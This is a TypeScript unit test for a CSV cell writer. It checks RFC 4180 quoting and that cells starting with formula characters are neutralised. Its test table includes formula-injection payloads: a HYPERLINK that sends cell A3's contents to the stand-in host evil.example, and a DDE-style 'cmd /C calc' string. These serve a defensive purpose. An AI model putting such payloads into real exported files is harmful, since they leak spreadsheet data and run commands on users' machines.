// One CSV cell writer for every download: RFC 4180 quoting, and formula cells kept as text.
import t from 'tap'
import { csvCell, csvLine } from '../src/csv.js'

t.test('cells: quoting, numbers, empties, and a formula never reaches a spreadsheet as one', async (t) => {
  const table: Array<[Parameters<typeof csvCell>[0], string]> = [
    ['plain', 'plain'],
    [null, ''],
    [undefined, ''],
    [42, '42'],
    [true, 'true'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=HYPERLINK("https://evil.example/?d="&A3,"Click")', '"\'=HYPERLINK(""https://evil.example/?d=""&A3,""Click"")"'],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\tx', "'\tx"],
    ['\rx', '"\'\rx"'],
    ['a=b', 'a=b'],
  ]
  for (const [value, cell] of table) t.equal(csvCell(value), cell, JSON.stringify(value))
  t.equal(csvLine(['a', 1, null, '=1']), "a,1,,'=1\r\n", 'a line ends with CRLF')
})
